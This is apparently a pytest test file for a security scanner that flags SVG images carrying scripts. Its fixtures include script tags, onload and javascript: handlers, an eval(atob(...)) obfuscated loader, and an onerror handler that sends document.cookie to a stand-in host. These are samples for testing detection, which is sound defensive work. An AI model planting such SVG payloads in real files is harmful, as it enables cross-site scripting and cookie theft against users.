"""Pictures that contain a program."""

import pytest

from tests.offline import found
from vscan.model import Severity

SVG = '<svg xmlns="http://www.w3.org/2000/svg" {}><path d="M0 0"/>{}</svg>'


@pytest.mark.parametrize(
    ("attributes", "body", "severity"),
    [
        ("", "<script>document.title = 'x'</script>", Severity.MEDIUM),
        ("", "<svg:script type='text/ecmascript'><![CDATA[f()]]></svg:script>", Severity.MEDIUM),
        ("onload='init(evt)'", "", Severity.MEDIUM),
        ("", '<a xlink:href="javascript:f()"><text>x</text></a>', Severity.MEDIUM),
        (
            "",
            "<SCRIPT>eval(atob(document.querySelector('desc').textContent))</SCRIPT>",
            Severity.HIGH,
        ),
        (
            "",
            '<image href="x" onerror="fetch(\'https://x.example/\' + document.cookie)"/>',
            Severity.HIGH,
        ),
        ("", '<foreignObject><iframe srcdoc="x"></iframe></foreignObject>', Severity.MEDIUM),
    ],
)
def test_a_picture_with_a_script_is_found(attributes: str, body: str, severity: Severity) -> None:
    worst = found(SVG.format(attributes, body), "icons/a.svg")
    assert worst["active-picture"] is severity


@pytest.mark.parametrize(
    ("attributes", "body"),
    [
        ('width="16"', "<title>Script</title><desc>runs onload</desc>"),
        ("", "<script/>"),
        ("", "<script></script>"),
        ("", "<style>.script{fill:red}</style><g id='onload'/>"),
        ("", '<a href="https://acme.example/javascript"><text>javascript:</text></a>'),
        ("", '<image href="data:image/png;base64,AAAA"/>'),
    ],
)
def test_a_picture_without_one_is_not_found(attributes: str, body: str) -> None:
    assert found(SVG.format(attributes, body), "icons/a.svg") == {}
    assert "active-picture" not in found(SVG.format("", "<script>f()</script>"), "a.html")
